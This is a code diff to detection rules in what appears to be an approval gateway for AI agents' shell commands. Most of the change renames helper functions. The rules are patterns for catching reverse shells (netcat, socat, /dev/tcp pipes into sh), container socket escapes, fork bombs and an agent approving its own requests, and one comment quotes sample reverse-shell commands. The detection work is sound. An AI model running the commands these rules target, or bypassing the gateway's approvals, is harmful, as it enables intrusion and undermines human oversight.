@@ -1,16 +1,18 @@
 import type { CommandFact } from "../../core/facts.ts";
 import { isPseudoNetwork } from "../path-classes.ts";
-import { nameSpan, names, operands, type Rule, type Scene, table, values } from "../rule.ts";
+import { argumentValues, nameSet, nameSpan, names, operands, type Rule, type RuleContext } from "../rule.ts";
 
 /** `nc host 1 | sh`, `cat pipe | sh -i | nc host 1 > pipe`: a shell at one end, the network at the other. */
-function feedsShell(fact: CommandFact, scene: Scene): boolean {
+function feedsShell(fact: CommandFact, scene: RuleContext): boolean {
   const wire =
     names(fact).some((name) => /^(?:nc|ncat|netcat|nc\.\w+|telnet|socat|cryptcat|sbd)$/.test(name)) ||
-    (fact.executable.name === "openssl" && values(fact)[0] === "s_client");
+    (fact.executable.name === "openssl" && argumentValues(fact)[0] === "s_client");
   if (!wire || !fact.piped) return false;
   return scene.commands.some(
     (other) =>
-      other.piped && /^(?:ba|da|a|z|k|c|tc|fi)?sh$/.test(other.executable.name ?? "") && !values(other).includes("-c"),
+      other.piped &&
+      /^(?:ba|da|a|z|k|c|tc|fi)?sh$/.test(other.executable.name ?? "") &&
+      !argumentValues(other).includes("-c"),
   );
 }
 
@@ -25,7 +27,7 @@ export const networkShell: Rule = {
       (one) => isPseudoNetwork(one.path ?? "") || /^\/dev\/(?:tcp|udp)\//.test(one.target?.prefix ?? ""),
     );
     if (redirect) return redirect.span;
-    const given = values(fact);
+    const given = argumentValues(fact);
     const text = given.join(" ");
     const word = fact.argv.slice(1).find((one) => /^\/dev\/(?:tcp|udp)\//.test(one.value ?? ""));
     for (const name of names(fact)) {
@@ -65,7 +67,7 @@ export const networkShell: Rule = {
 const SOCKETS = /docker\.sock|containerd\.sock|podman\.sock|crio\.sock/;
 
 function leavesContainer(fact: CommandFact): boolean {
-  const given = values(fact);
+  const given = argumentValues(fact);
   for (const name of names(fact)) {
     if (/^(?:docker|podman|nerdctl|docker-compose)$/.test(name)) {
       if (
@@ -157,7 +159,7 @@ export const forkBomb: Rule = {
   ],
 };
 
-const SELF = table("sallyport");
+const SELF = nameSet("sallyport");
 
 export const selfApproval: Rule = {
   id: "self-approval",
@@ -165,7 +167,10 @@ export const selfApproval: Rule = {
   message: "Reaches for the gateway's own approvals, rules or tokens.",
   suggestion: "A person decides approvals; wait for the answer.",
   find: (fact: CommandFact) => {
-    if (!names(fact).some((name) => SELF.has(name)) && !/(?:^|\/)bin\/sallyport\.js$/.test(values(fact)[0] ?? ""))
+    if (
+      !names(fact).some((name) => SELF.has(name)) &&
+      !/(?:^|\/)bin\/sallyport\.js$/.test(argumentValues(fact)[0] ?? "")
+    )
       return null;
     const words = operands(fact);
     return words.some((word) => /^(?:approve|deny|allow|token|serve|worker|init|clean)$/.test(word))
